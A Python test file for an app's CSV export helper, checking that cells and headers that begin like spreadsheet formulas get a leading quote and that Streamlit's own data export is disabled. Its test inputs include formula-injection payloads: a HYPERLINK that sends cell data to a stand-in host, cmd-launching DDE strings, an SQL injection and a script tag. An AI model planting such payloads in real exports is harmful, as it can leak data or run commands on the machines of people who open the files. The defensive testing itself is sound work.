"""Drill-down CSV downloads neutralise spreadsheet formulas (DESIGN §10), tested on the app's helper."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from answerable.ui.csv_export import to_csv_bytes


def _read(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("x'); DROP TABLE batches; --", "x'); DROP TABLE batches; --"),  # plain text stays as it is
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),  # CSV is not HTML; kept verbatim
    ],
)
def test_formula_cells_get_a_leading_quote(value: str, written: str) -> None:
    rows = _read(to_csv_bytes(["incident_id", "assigned_to"], [["INC1", value]]))
    assert rows == [["incident_id", "assigned_to"], ["INC1", written]]


def test_numbers_dates_and_nulls_are_not_altered() -> None:
    rows = _read(to_csv_bytes(["n", "x", "at", "none"], [[-5, -0.25, datetime(2026, 2, 28, 1, 16), None]]))
    # A negative number is a number, not a formula: no quote. None is an empty cell.
    assert rows[1] == ["-5", "-0.25", "2026-02-28 01:16:00", ""]


def test_formula_looking_headers_are_neutralised_too() -> None:
    rows = _read(to_csv_bytes(["=cmd()"], [["a"]]))
    assert rows[0] == ["'=cmd()"]


def test_the_dataframe_toolbar_cannot_export_data(monkeypatch: pytest.MonkeyPatch) -> None:
    """(found) st.dataframe's own toolbar "Download as CSV" wrote =HYPERLINK(...) and +cmd|... cells as
    stored, for any viewer. The app's config turns that export (and copy) off; the safe download above
    is the way out. The committed .streamlit/config.toml is what `make run` serves."""
    from pathlib import Path

    from streamlit import config

    monkeypatch.chdir(Path(__file__).resolve().parents[2])  # streamlit reads ./.streamlit/config.toml
    try:
        config.get_config_options(force_reparse=True)
        assert config.get_option("client.disableDataExport") is True
        assert config.get_where_defined("client.disableDataExport").endswith(".streamlit/config.toml")
    finally:
        monkeypatch.undo()
        config.get_config_options(force_reparse=True)
